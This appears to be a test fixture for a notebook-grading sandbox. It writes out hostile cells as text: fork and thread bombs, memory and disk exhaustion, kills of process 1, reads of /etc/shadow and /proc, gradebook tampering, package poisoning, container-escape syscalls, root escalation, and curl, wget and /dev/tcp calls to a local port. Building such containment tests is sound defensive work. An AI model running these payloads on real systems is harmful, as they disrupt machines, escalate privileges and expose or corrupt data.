"""Code that uses up the machine, that ends or outlives what runs it, and that goes where it has no business.

Nothing here runs when the file is imported: all of it is text that is written into notebooks.
"""

from __future__ import annotations

from hostile_scene import code

BOTH = ("check-share", "check-double")

# ---- what a machine has only so much of --------------------------------------------------------------------

RESOURCES = "time, memory, processes, disk"

code(RESOURCES, "an endless loop", "while True:\n    pass", name="endless-loop", lost=("check-share",),
     says="solve-share ran longer than a cell may")  # fmt: skip
code(
    RESOURCES,
    "an endless loop that is deaf to interruption",
    """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",
    name="deaf-loop",
    lost=BOTH,
    says="solve-share",
)
code(
    RESOURCES,
    "a sleep that catches every exception",
    """
while True:
    try:
        time.sleep(1000)
    except BaseException:
        pass
""",
    name="sleeper",
    lost=BOTH,
    says="solve-share",
)
code(
    RESOURCES,
    "loops without end when the interpreter shuts down",
    """
import atexit
@atexit.register
def _forever():
    while True:
        pass
class Lingers:
    def __del__(self):
        while True:
            pass
lingers = Lingers()
""",
    name="endless-at-exit",
)
code(
    RESOURCES,
    "threads that spin for ever in the background",
    """
import threading
def _spin():
    while True:
        time.sleep(0.001)
for _ in range(8):
    threading.Thread(target=_spin, daemon=False).start()
""",
    name="spinning-threads",
)
code(
    RESOURCES,
    "a flood of output",
    "while True:\n    print('x' * 10_000)",
    name="output-flood",
    lost=BOTH,
    says="solve-share",
)
code(
    RESOURCES,
    "one message of 40 MB",
    "print('x' * (40 << 20), flush=True)\ntime.sleep(1)",
    name="one-huge-message",
    lost=BOTH,
    says="solve-share",
)
# The line over which a learner's process answers, found as a hostile one would find it.
LINE = """
import socket, struct
def _line():
    for number in range(3, 256):
        try:
            one = socket.socket(fileno=os.dup(number))
            one.getpeername()
            if one.family == socket.AF_UNIX and one.type == socket.SOCK_STREAM:
                return one
        except OSError:
            continue
line = _line()
def frame(content):
    return struct.pack("!Q", len(content)) + content
"""


def frames(tried: str, source: str, *, name: str) -> None:
    """Code that writes to the grader past the shell; what comes after it goes to a person."""
    code(RESOURCES, tried, LINE + source + "\ntime.sleep(20)", name=name, lost=BOTH, says="solve-share")


frames(
    "a frame of a gigabyte, and all of it",
    "line.sendall(struct.pack('!Q', 1 << 30))\nfor _ in range(256):\n    line.sendall(bytes(4 << 20))",
    name="frame-of-a-gigabyte",
)
frames(
    "frames without end, each as large as may be",
    'full = frame(b\'{"kind": "stream", "content": {"name": "stdout", "text": "\' + b\'x\' * (8 << 20)'
    " + b'\"}}')\nwhile True:\n    line.sendall(full)",
    name="frames-without-end",
)
frames("a frame that is no text", "line.sendall(frame(bytes(range(128, 256))))", name="frame-of-bytes")
frames("a frame that is no object", "line.sendall(frame(b'[[1], 2]'))", name="frame-of-a-list")
frames(
    "frames out of order: the next cell begins, an earlier one ends, all is over",
    'for words in (b\'{"begin": 99}\', b\'{"end": 0, "count": 1}\', b\'{"over": true}\'):\n'
    "    line.sendall(frame(words))",
    name="frames-out-of-order",
)
frames("half a frame, and then nothing", "line.sendall(struct.pack('!Q', 1000) + b'{')", name="half-a-frame")
frames("the line's end", "line.shutdown(socket.SHUT_RDWR)", name="line-shut")
code(
    RESOURCES,
    "a message of a million empty lists",
    "display({'text/plain': 'x', 'application/json': [[]] * 1_500_000}, raw=True)\ntime.sleep(1)",
    name="message-of-many-entries",
    lost=BOTH,
    says="solve-share",
)
code(
    RESOURCES,
    "a message of lists in lists",
    "x = []\nfor _ in range(900):\n    x = [x]\n"
    "display({'text/plain': 'x', 'application/json': x}, raw=True)\ntime.sleep(1)",
    name="message-of-lists-in-lists",
    lost=BOTH,
    says="solve-share",
)
code(
    RESOURCES,
    "colours that are cut short, and halves of letters",
    """
for text in ("\\x1b[38m", "\\x1b[48;5m", "\\x1b[", "\\x1b", "\\x1b[38;2;1m\\x1b[38", "\\x1b\\x1b[38m[38m"):
    print(text, flush=True)
    print(text, file=sys.stderr, flush=True)
    display({"text/plain": text}, raw=True)
print("8m \\ud800 \\udcff", flush=True)
harmless("a half", display, {"text/plain": "\\udfff", "text/html": "<b>\\ud83d</b>"}, raw=True)
""",
    name="colours-cut-short",
)
code(
    RESOURCES,
    "an error whose name and message are cut colours",
    """
import threading
def _fails():
    raise type("\\x1b[38m", (Exception,), {})("\\x1b[48;2m\\ud800")
thread = threading.Thread(target=_fails)
thread.start()
thread.join()
get_ipython().showtraceback((ValueError, ValueError("\\x1b[38m"), None))
""",
    name="error-cut-short",
)
code(
    RESOURCES,
    "off the front of those that the system ends when memory runs out",
    """
for place in ("self", "1", str(os.getppid()), f"self/task/{os.getpid()}"):
    for name, value in (("oom_score_adj", "-1000"), ("oom_score_adj", "0"), ("oom_adj", "-17"),
                        ("comm", "x"), ("coredump_filter", "0"), ("timerslack_ns", "1"), ("clear_refs", "1")):
        attempt(f"{place} {name}", lambda: open(f"/proc/{place}/{name}", "w").write(value))
attempt("spared", lambda: 1 / (int(open("/proc/self/oom_score_adj").read()) != 1000))
""",
    name="spared-by-the-system",
    attempts=True,
)
code(
    RESOURCES,
    "a thousand outputs",
    """
from IPython.display import HTML, display
for number in range(1_000):
    display(HTML(f"<b>{number}</b>"))
""",
    name="many-outputs",
)
code(
    RESOURCES,
    "all the memory there is",
    """
held = []
while True:
    held.append(bytearray(b"x" * (64 << 20)))
""",
    name="memory",
    lost=BOTH,
    says="solve-share",
)
code(
    RESOURCES,
    "memory shared out among children",
    """
for _ in range(12):
    if os.fork() == 0:
        held = bytearray(b"x" * (150 << 20))
        time.sleep(60)
        os._exit(0)
time.sleep(60)
""",
    name="memory-of-children",
    lost=BOTH,
    says="solve-share",
)
code(
    RESOURCES,
    "memory held by a process whose first thread has ended",
    """
import ctypes, threading
if os.fork() == 0:
    def _hold():
        held = bytearray(b"x") * (900 << 20)
        with open("/tmp/held", "w") as file:
            file.write("yes")
        time.sleep(600)
    threading.Thread(target=_hold).start()
    ctypes.CDLL(None).syscall({"x86_64": 60}.get(os.uname().machine, 93), 0)
while not os.path.exists("/tmp/held"):
    time.sleep(0.02)
time.sleep(1)
attempt("900 MB that nobody counts", lambda: open("/tmp/held").read())
""",
    name="memory-behind-a-dead-thread",
    lost=BOTH,
    says="solve-share",
)
code(
    RESOURCES,
    "a fork bomb",
    """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
""",
    name="fork-bomb",
    lost=BOTH,
    says="solve-share",
)
code(
    RESOURCES,
    "threads until there are no more",
    """
import threading
stop = threading.Event()
def _many():
    for _ in range(2000):
        threading.Thread(target=stop.wait, daemon=True).start()
attempt("two thousand threads", _many)
stop.set()
""",
    name="thread-bomb",
    attempts=True,
)
code(
    RESOURCES,
    "a disk full of files",
    """
def _fill(folder, size):
    for number in range(400):
        with open(f"{folder}/{number}", "wb") as file:
            file.write(bytes(size))
attempt("400 MB in the home folder", _fill, ".", 1 << 20)
attempt("400 MB in /tmp", _fill, "/tmp", 1 << 20)
attempt("400 MB in /dev/shm", _fill, "/dev/shm", 1 << 20)
""",
    name="disk-full",
    attempts=True,
)
code(
    RESOURCES,
    "one file of a terabyte",
    """
attempt("a sparse file of a terabyte", lambda: open("big", "wb").truncate(1 << 40))
attempt("a file of 100 MB", lambda: open("big", "wb").write(bytes(100 << 20)))
""",
    name="huge-file",
    attempts=True,
)
code(
    RESOURCES,
    "more files than a disk has names for",
    """
def _names():
    for number in range(30_000):
        open(f"/tmp/{number}", "wb").close()
attempt("thirty thousand empty files", _names)
""",
    name="inodes",
    attempts=True,
)
code(
    RESOURCES,
    "more open files than a process has numbers for",
    """
held = []
def _open():
    try:
        while True:
            held.append(open("/dev/null"))
    finally:
        held.clear()
attempt("open files without end", _open)
""",
    name="open-files",
    attempts=True,
)
code(
    RESOURCES,
    "binary rubbish and control sequences of terminals",
    """
os.write(1, bytes(range(256)) * 40)
os.write(2, bytes(range(256)) * 40)
print("\\x1b[2J\\x1b]0;graded\\x07\\x1b[31m\\x00\\x08\\x7f\\ufffe\\u202e evil", flush=True)
print("\\ud800 lone surrogate".encode("utf-8", "surrogatepass"), file=sys.stderr, flush=True)
""",
    name="binary-and-ansi",
)

# ---- what ends or outlives its kernel ----------------------------------------------------------------------

PROCESSES = "exits, kills, daemons"

code(PROCESSES, "quit() in a cell", "quit()", name="quits")
code(PROCESSES, "sys.exit() in a cell", "sys.exit(0)", name="exits", zero=("check-share",), says="SystemExit")
code(PROCESSES, "os._exit()", "os._exit(0)", name="exits-at-once", lost=BOTH, says="solve-share")
code(
    PROCESSES,
    "kills its own kernel",
    "import signal\nos.kill(os.getpid(), signal.SIGKILL)",
    name="kills-itself",
    lost=BOTH,
    says="solve-share",
)
code(
    PROCESSES,
    "stops its own kernel",
    "import signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    name="stops-itself",
    lost=BOTH,
    says="solve-share",
)
code(
    PROCESSES,
    "a crash of the interpreter",
    "import ctypes\nctypes.string_at(0)",
    name="segfault",
    lost=BOTH,
    says="solve-share",
)
code(
    PROCESSES,
    "kills its parent, the first process, and everything",
    """
import signal
for what, target in (("the parent", os.getppid()), ("process 1", 1), ("everything", -1)):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        if (target, number) != (-1, signal.SIGSTOP):
            harmless(f"{number.name} to {what}", os.kill, target, number)
print("still here")
""",
    name="kills-the-parent",
)
code(
    PROCESSES,
    "signals to every process number of the machine",
    """
import signal
reached, own = [], {int(name) for name in os.listdir("/proc/self/task")}
for number in range(2, 40_000):
    if number not in own:
        try:
            os.kill(number, signal.SIGKILL)
            reached.append(number)
        except OSError:
            pass
attempt("processes of others", lambda: reached[0])
""",
    name="kills-by-number",
    attempts=True,
)
code(
    PROCESSES,
    "a daemon that should outlive everything",
    """
import ctypes, signal
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            time.sleep(1)
    os._exit(0)
print("daemon started")
""",
    name="daemon",
)
code(
    PROCESSES,
    "other programs left running",
    """
import subprocess
for words in (["sleep", "6@PORT@"], [sys.executable, "-c", "import time; time.sleep(6@PORT@)"]):
    for _ in range(3):
        subprocess.Popen(words, start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
print("started")
""",
    name="programs-left-running",
)
code(
    PROCESSES,
    "closes every open file, its kernel's sockets among them",
    "os.closerange(3, 1024)",
    name="closes-its-sockets",
    lost=BOTH,
    says="solve-share",
)

# ---- files, processes and settings of others ---------------------------------------------------------------

FILES = "files and processes of others"

code(
    FILES,
    "reads keys, gradebook, other learners' work and accounts by path",
    """
root = "@ROOT@"
for path in ("keys/98-tests.yaml", "keys/98-tests.evidence.json", "gradebook.db", "course.yaml",
             "source/98-tests/98-tests.ipynb", "submitted/honest-000/98-tests/98-tests.ipynb",
             "evidence/98-tests/honest-000.json", "roster.csv"):
    attempt(f"reads {path}", lambda: open(f"{root}/{path}", "rb").read())
for path in (root, "@OUTSIDE@", "@ROOT@/..", "/var", "/run", "/sys", "/boot", "/mnt", "/srv"):
    attempt(f"lists {path}", os.listdir, path)
for path in ("@OUTSIDE@/secret.txt", "/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/gshadow"):
    attempt(f"reads {path}", lambda: open(path).read())
""",
    name="reads-by-path",
    attempts=True,
)
code(
    FILES,
    "changes and deletes gradebook, keys and other learners' work",
    """
import shutil, sqlite3
root = "@ROOT@"
def _sql():
    with sqlite3.connect(f"{root}/gradebook.db") as book:
        book.execute("update grade set auto_score = 495")
        book.execute("delete from student")
attempt("writes the gradebook", _sql)
attempt("writes a key", lambda: open(f"{root}/keys/98-tests.yaml", "w").write("notebook: 98-tests"))
attempt("writes a file", lambda: open("@OUTSIDE@/secret.txt", "w").write("gone"))
attempt("makes the class's folder", os.mkdir, root)
attempt("deletes the class", shutil.rmtree, root)
attempt("moves the class", os.rename, root, root + "-gone")
attempt("deletes a file", os.remove, "@OUTSIDE@/secret.txt")
""",
    name="writes-by-path",
    attempts=True,
)
code(
    FILES,
    "changes the packages that the next kernel imports",
    """
import course, numpy
for module in (course, numpy, os):
    folder = os.path.dirname(module.__file__)
    attempt(f"writes beside {module.__name__}", lambda: open(f"{folder}/evil.py", "w"))
    attempt(f"changes {module.__name__}", lambda: open(module.__file__, "a"))
    attempt(f"frees {module.__name__}", os.chmod, module.__file__, 0o777)
attempt("writes in /usr/bin", lambda: open("/usr/bin/python-evil", "w"))
attempt("writes at the root", lambda: open("/evil", "w"))
attempt("writes Python's own folder", lambda: open(f"{sys.prefix}/evil.pth", "w"))
""",
    name="poisons-packages",
    attempts=True,
)
code(
    FILES,
    "looks through /proc",
    """
def _first(name):
    return open(f"/proc/1/{name}", "rb").read()
for name in ("environ", "maps", "mem", "auxv"):
    attempt(f"reads /proc/1/{name}", _first, name)
for name in ("root", "cwd", "exe"):
    attempt(f"follows /proc/1/{name}", os.readlink, f"/proc/1/{name}")
attempt("lists files of process 1", os.listdir, "/proc/1/fd")
for path in ("/proc/kcore", "/proc/sysrq-trigger", "/proc/kallsyms", "/proc/sys/kernel/core_pattern",
             "/proc/net/tcp", "/sys/class/net"):
    attempt(f"opens {path}", lambda: open(path).read())
def _others():
    found = [p for p in os.listdir("/proc") if p.isdecimal() and int(p) not in (1, os.getpid())]
    return found[0]
attempt("sees other processes", _others)
def _traces():
    mounts = open("/proc/self/mountinfo").read()
    return [part for part in ("@ROOT@", "@OUTSIDE@") if part in mounts][0]
attempt("finds the class among the mounts", _traces)
""",
    name="reads-proc",
    attempts=True,
)
code(
    FILES,
    "looks for secrets in environment, command lines and inherited files",
    """
print(sorted(os.environ.items()))
for number in (1, os.getppid(), os.getpid()):
    harmless("a command line", lambda: print(open(f"/proc/{number}/cmdline").read()))
import stat
def _inherited():
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            status = os.fstat(int(name))
        except OSError:
            continue
        target = os.readlink(f"/proc/self/fd/{name}")
        inside = target.startswith(("/dev/", "/home/learner", "/tmp", "/proc"))
        if (stat.S_ISREG(status.st_mode) or stat.S_ISDIR(status.st_mode)) and not inside:
            found.append(target)
    return found[0]
attempt("a file of the grader's that was left open", _inherited)
""",
    name="reads-environment",
    attempts=True,
)
code(
    FILES,
    "breaks out with mounts, namespaces and a change of root",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def _call(name, *arguments):
    if getattr(libc, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), name)
attempt("chroot", os.chroot, "..")
attempt("mount", _call, "mount", b"none", b"/home", b"tmpfs", 0, None)
attempt("remount", _call, "mount", b"none", b"/", None, 32, None)
attempt("umount", _call, "umount2", b"/proc", 2)
attempt("unshare", _call, "unshare", 0x10000000)
attempt("setns", lambda: _call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))
attempt("ptrace", _call, "ptrace", 16, 1, 0, 0)
attempt("memory of process 1", lambda: open("/proc/1/mem", "r+b"))
attempt("the system's clock", time.clock_settime, time.CLOCK_REALTIME, 0)
attempt("the system's name", lambda: __import__("socket").sethostname("evil"))
attempt("a device", os.mknod, "/tmp/disk", 0o600 | 0o060000, os.makedev(8, 0))
attempt("a way up", lambda: os.listdir(os.getcwd() + "/../../../@ROOT@"))
def _clone():
    pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    if pid < 0:
        raise OSError(ctypes.get_errno(), "clone")
attempt("clone", _clone)
""",
    name="breaks-out",
    attempts=True,
)
code(
    FILES,
    "becomes another account",
    """
import subprocess
for what, do in (("setuid", lambda: os.setuid(0)), ("setgid", lambda: os.setgid(0)),
                 ("groups", lambda: os.setgroups([0])), ("setreuid", lambda: os.setresuid(0, 0, 0))):
    attempt(what, do)
def _run(*words):
    done = subprocess.run(words, capture_output=True, timeout=5, input=b"", check=True)
    return done.stdout
attempt("sudo", _run, "sudo", "-n", "id")
attempt("su", _run, "su", "-c", "id")
def _set_user():
    import shutil
    shutil.copy("/usr/bin/id", "/tmp/id")
    os.chmod("/tmp/id", 0o4755)
    assert b"uid=0" in _run("/tmp/id")
attempt("a program that becomes root", _set_user)
""",
    name="becomes-root",
    attempts=True,
)
# Whoever comes second in the same worker, or beside it, must not find what the first has left.
_MESSAGE = """
import socket, glob
home = os.path.expanduser("~/")
places = ("/tmp/message", "/dev/shm/message", home + "message", home + ".ipython/message")
"""
code(
    FILES,
    "leaves messages for the next learner",
    _MESSAGE
    + """
for place in places:
    harmless(f"leaves {place}", lambda: open(place, "w").write("right answers"))
left = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
harmless("leaves a name", left.bind, "\\0message-for-the-next")
harmless("listens", left.listen)
if os.fork() == 0:
    time.sleep(600)
""",
    name="leaves-messages",
)
code(
    FILES,
    "looks for messages of the learner before",
    _MESSAGE
    + """
for place in places:
    attempt(f"finds {place}", lambda: open(place).read())
asks = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
attempt("finds a name", asks.connect, "\\0message-for-the-next")
attempt("finds files", lambda: glob.glob("/tmp/*message*")[0])
""",
    name="finds-messages",
    attempts=True,
)

code(
    FILES,
    "heard by another kernel through files that both see",
    """
import ctypes, fcntl, struct
libc = ctypes.CDLL(None, use_errno=True)
shared = [open(path, "rb") for path in (sys.executable, os.__file__)]
folder = os.open("/usr/lib", os.O_RDONLY)
def _done(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result
for file in shared:
    for how in (fcntl.LOCK_SH, fcntl.LOCK_EX, fcntl.LOCK_SH | fcntl.LOCK_NB):
        attempt(f"locks {file.name}", fcntl.flock, file, how)
    ask = struct.pack("hhqqi4x", fcntl.F_WRLCK, os.SEEK_SET, 0, 0, 0)
    attempt(f"asks for locks on {file.name}", fcntl.fcntl, file, fcntl.F_GETLK, ask)
    attempt(f"asks for locks of descriptions on {file.name}", fcntl.fcntl, file, 36, ask)
    attempt(f"leases {file.name}", fcntl.fcntl, file, fcntl.F_SETLEASE, fcntl.F_RDLCK)
attempt("is told of a folder", fcntl.fcntl, folder, fcntl.F_NOTIFY, 1)
attempt("is told of reads", lambda: _done(libc.inotify_init()))
attempt("is told of reads, newer", lambda: _done(libc.inotify_init1(0)))
""",
    name="hears-others",
    attempts=True,
)

# ---- the network -------------------------------------------------------------------------------------------

NETWORK = "network"

code(
    NETWORK,
    "connects to a port of the machine, over TCP and UDP, by every name of it",
    """
import socket
def _tcp(host):
    return socket.create_connection((host, @PORT@), timeout=2)
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "::ffff:127.0.0.1", "127.1"):
    attempt(f"TCP to {host}", _tcp, host)
def _udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sends:
        sends.settimeout(0.5)
        sends.connect(("127.0.0.1", @PORT@))
        sends.send(b"leak")
        return sends.recv(10)
attempt("UDP and an answer", _udp)
""",
    name="connects",
    attempts=True,
)
code(
    NETWORK,
    "fetches a page, also with other programs",
    """
import subprocess, urllib.request
address = "http://127.0.0.1:@PORT@/leak"
attempt("urllib", lambda: urllib.request.urlopen(address, timeout=2).read())
for words in (["curl", "-sf", "-m", "2", address], ["wget", "-q", "-T", "2", "-t", "1", "-O-", address],
              ["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/@PORT@"]):
    attempt(words[0], lambda: subprocess.run(words, check=True, capture_output=True, timeout=5))
""",
    name="fetches",
    attempts=True,
)
code(
    NETWORK,
    "connects to sockets of the machine in the file system and without a path",
    """
import socket
with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
    attempt("a socket with a path", one.connect, "@SOCKET@")
with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
    attempt("a socket without a path", one.connect, "\\0@ABSTRACT@")
attempt("raw packets", socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)
attempt("frames", socket.socket, 17, socket.SOCK_RAW)
for number in range(1, 23):
    attempt(f"the system's own kind {number}", socket.socket, 16, socket.SOCK_RAW, number)
attempt("the host of a virtual machine", socket.socket, 40, socket.SOCK_STREAM)
""",
    name="local-sockets",
    attempts=True,
)
